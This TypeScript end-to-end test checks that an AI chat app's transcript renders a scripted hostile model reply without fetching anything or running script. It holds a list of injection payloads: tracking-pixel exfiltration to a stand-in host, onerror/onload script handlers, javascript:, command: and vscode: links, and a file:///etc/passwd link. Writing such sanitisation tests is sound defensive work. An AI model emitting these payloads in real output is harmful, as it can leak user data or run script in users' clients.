/** A reply that tries everything: nothing of it is fetched, nothing runs. */

import { expect, test } from "./harness/fixtures";
import { say, think, turn, use } from "./harness/scriptedModel";

const HOSTILE = `
![pixel](https://evil.example/pixel.png?secret) and [click](javascript:alert(1)) and [data](data:text/html,<script>window.hacked=1</script>)

<img src="https://evil.example/tag.png" onerror="window.hacked=1"><script>window.hacked=1</script>
<svg onload="window.hacked=1"><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe><style>@import "https://evil.example/style.css"; body { display: none }</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><button>x</button></form>

![ref][r] [command](command:workbench.action.terminal.new) [vscode](vscode://evil.example/run) [file](file:///etc/passwd)

[r]: https://evil.example/ref.png

\`\`\`svg
<svg onload="window.hacked=1"></svg>
\`\`\`

\`\`\`html
<img src=x onerror="window.hacked=1">
\`\`\`
`;

test("a hostile reply causes no request and runs nothing", async ({ chat, model, watch, page, picture }) => {
  await chat.fresh();
  model.script(
    turn(
      think(HOSTILE),
      say(HOSTILE),
      use("exec_command", {
        cmd: 'echo \'<img src="https://evil.example/cmd.png" onerror="window.hacked=1">\'',
        description: HOSTILE,
      }),
    ),
    turn(say("End of it.")),
  );
  watch.outside();
  await chat.send("<img src=https://evil.example/user.png onerror=window.hacked=1>");
  await chat.decide("Allow");
  await chat.reaches("idle");
  await chat.unfold(chat.rows("thinking").first());
  await chat.unfold(chat.rows("tool").first());
  await picture("hostile-reply");

  expect(watch.outside()).toEqual([]);
  expect(await chat.app.evaluate(() => "hacked" in window)).toBe(false);
  expect(
    await chat.transcript
      .locator("img[src^=http], script, iframe, svg[onload], style, form, base, meta, object, embed")
      .count(),
  ).toBe(0);
  const targets = await chat.transcript
    .locator("a")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  expect(targets.filter((href) => /^(javascript|data|command|vscode|file):/i.test(href))).toEqual([]);
  await expect(chat.rows("text").first()).toContainText("evil.example");
  for (const name of ["click", "data", "command", "vscode", "file"]) {
    await expect(chat.transcript.getByRole("link", { name, exact: true })).toHaveCount(0);
  }
  expect(watch.outside()).toEqual([]);
  await expect(page.locator(".terminal-wrapper")).toHaveCount(0);
});
